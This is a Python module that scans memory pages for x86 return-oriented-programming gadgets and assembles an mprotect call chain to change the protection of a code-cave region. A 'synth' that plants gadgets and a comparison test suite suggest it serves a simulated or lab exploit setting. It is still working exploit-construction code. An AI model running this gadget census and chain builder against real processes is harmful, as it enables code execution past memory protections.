"""Gadget discovery over probed pages and chain construction.

The catalog is a census: every byte offset in the scanned pages where a
known instruction pattern occurs, overlapping and unaligned occurrences
included.  x86 decodes from any byte, so a pattern found mid-"instruction"
is just as executable as an intended one.  A directed census scans pages in
address order only until the chain's kinds are found, so each kind's lowest
site is the full census's.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass

from .explorer import PageMap
from .memspace import PAGE_SIZE, PageRun
from .machine import SYS_MPROTECT

# each kind's census pattern, in the order synth plants them
GADGETS: dict[str, bytes] = {
    "pop-rdi-ret": b"\x5f\xc3",
    "pop-rsi-ret": b"\x5e\xc3",
    "pop-rdx-ret": b"\x5a\xc3",
    "pop-rax-ret": b"\x58\xc3",
    "pop-rbp-ret": b"\x5d\xc3",
    "syscall": b"\x0f\x05",
    "leave-ret": b"\xc9\xc3",
}
# each variant's kinds in chain order, the argument loaders then the syscall;
# "short-4" trusts rdx to hold the protection value when the pivot begins
CHAINS: dict[str, tuple[str, ...]] = {
    "sound-5": ("pop-rdi-ret", "pop-rsi-ret", "pop-rdx-ret", "pop-rax-ret", "syscall"),
    "short-4": ("pop-rdi-ret", "pop-rsi-ret", "pop-rax-ret", "syscall"),
}
CHAIN_VARIANTS = tuple(CHAINS)

_KINDS = {pattern: name for name, pattern in GADGETS.items()}  # all two bytes
_FIRST, _LAST = ({pattern[i] for pattern in _KINDS} for i in (0, 1))
assert not _FIRST & _LAST, "the census scan needs first and last pattern bytes apart"
# bytes.translate table: first pattern bytes become 1, last ones 2, others 0
_MARKS = bytes(1 if b in _FIRST else 2 if b in _LAST else 0 for b in range(256))
_RET = GADGETS["pop-rdi-ret"][-1:]


@dataclass(frozen=True, slots=True)
class GadgetCatalog:
    """Census result: every address per gadget kind in the scanned pages,
    sorted ascending, plus the syscall sites whose next byte, read in the
    same census, is a ret."""

    found: dict[str, tuple[int, ...]]
    searched_pages: int
    syscalls_into_ret: tuple[int, ...] = ()

    def lowest(self, name: str) -> int | None:
        addrs = self.found.get(name)
        return addrs[0] if addrs else None

    def require(self, kinds: tuple[str, ...]) -> None:
        """Raise MissingGadgetError unless every kind in ``kinds`` has a
        site.  A syscall site counts only if it falls through into a ret:
        one that does not would run whatever bytes follow it."""
        if unmet := _unmet(self.found, self.syscalls_into_ret, kinds):
            raise unmet


class MissingGadgetError(Exception):
    """A required gadget kind has no usable occurrence."""

    def __init__(self, missing: list[str], why: str | None = None):
        super().__init__(why or "missing gadget kinds: " + ", ".join(sorted(missing)))
        self.missing = tuple(sorted(missing))


def _unmet(found, into_ret, kinds: tuple[str, ...]) -> MissingGadgetError | None:
    """What ``require(kinds)`` raises over these sites, or None."""
    if missing := [k for k in kinds if not found.get(k)]:
        return MissingGadgetError(missing)
    if "syscall" in kinds and not into_ret:
        sites = len(found["syscall"])
        return MissingGadgetError(
            ["syscall"], f"none of the {sites} syscall site"
            f"{'s' * (sites != 1)} found falls into a ret")


def find_gadgets(pm: PageMap, runs: Iterable[PageRun],
                 need: tuple[str, ...] | None = None) -> GadgetCatalog:
    """Scan the pages of ``runs``, each stored accessible in ``pm``, in
    address order for every pattern in GADGETS; with ``need``, stop after
    the first page where ``GadgetCatalog.require(need)`` would pass.  Each
    kind's sites are then a prefix of the full census's, its lowest the
    same; ``searched_pages`` counts the pages scanned.  The runs are in
    address order and maximal, no two adjacent, as the read-only runs of
    ``PageMap.runs`` are.  The gadgets stage always passes its need;
    ``need=None`` is the full census, which the tests compare against.

    No other page is read.  Each page is read through ``pm`` once, with
    the first two bytes of the next page unless the page ends its run, and
    translated to mark first and last pattern bytes; a marked pair
    starting in the page is a hit if its bytes form a pattern.  So a
    pattern straddling two adjacent pages of a run counts, at the lower
    page, since execution would cross the boundary just as happily, and
    one ending outside the runs does not.  No buffer exceeds a page and two bytes.
    """
    hits: dict[str, list[int]] = {name: [] for name in GADGETS}
    into_ret: list[int] = []
    searched = 0
    # each page, and whether the next one is in its run
    pages = ((base, base + PAGE_SIZE < end)
             for start, end, _ in runs for base in range(start, end, PAGE_SIZE))
    for base, more in pages:
        searched += 1
        buf = pm.read(base, PAGE_SIZE + 2 if more else PAGE_SIZE)
        marked = buf.translate(_MARKS)
        pos = marked.find(b"\x01\x02", 0, PAGE_SIZE + 1)
        while pos != -1:
            name = _KINDS.get(buf[pos : pos + 2])
            if name is not None:
                hits[name].append(base + pos)
                # the chain continues past a syscall only through a ret
                # right after it, read here with its page
                if name == "syscall" and buf[pos + 2 : pos + 3] == _RET:
                    into_ret.append(base + pos)
            pos = marked.find(b"\x01\x02", pos + 2, PAGE_SIZE + 1)
        if need is not None and _unmet(hits, into_ret, need) is None:
            break
    return GadgetCatalog(
        found={name: tuple(addrs) for name, addrs in hits.items()},
        searched_pages=searched,
        syscalls_into_ret=tuple(into_ret),
    )


@dataclass(frozen=True, slots=True)
class ChainWord:
    value: int
    role: str  # "gadget-address" | "immediate" | "resume-address"


def build_mprotect_chain(
    catalog: GadgetCatalog,
    cave_addr: int,
    cave_len: int,
    prot_value: int,
    variant: str = "sound-5",
) -> tuple[ChainWord, ...]:
    """Build the argument-loading chain for one memory-protection syscall.

    Each loader kind of the variant, in CHAINS order, gives its lowest
    cataloged address and then the value it pops.  The chain ends with the
    lowest syscall site the census saw fall through into a ret; the caller
    appends the word that ret will consume.  The catalog must pass
    ``require(CHAINS[variant])``, as the gadgets stage makes sure it does.
    """
    kinds = CHAINS[variant]
    values = {"pop-rdi-ret": cave_addr, "pop-rsi-ret": cave_len,
              "pop-rdx-ret": prot_value, "pop-rax-ret": SYS_MPROTECT}
    words = [
        word
        for kind in kinds[:-1]
        for word in (ChainWord(catalog.lowest(kind), "gadget-address"),
                     ChainWord(values[kind], "immediate"))
    ]
    words.append(ChainWord(catalog.syscalls_into_ret[0], "gadget-address"))
    return tuple(words)
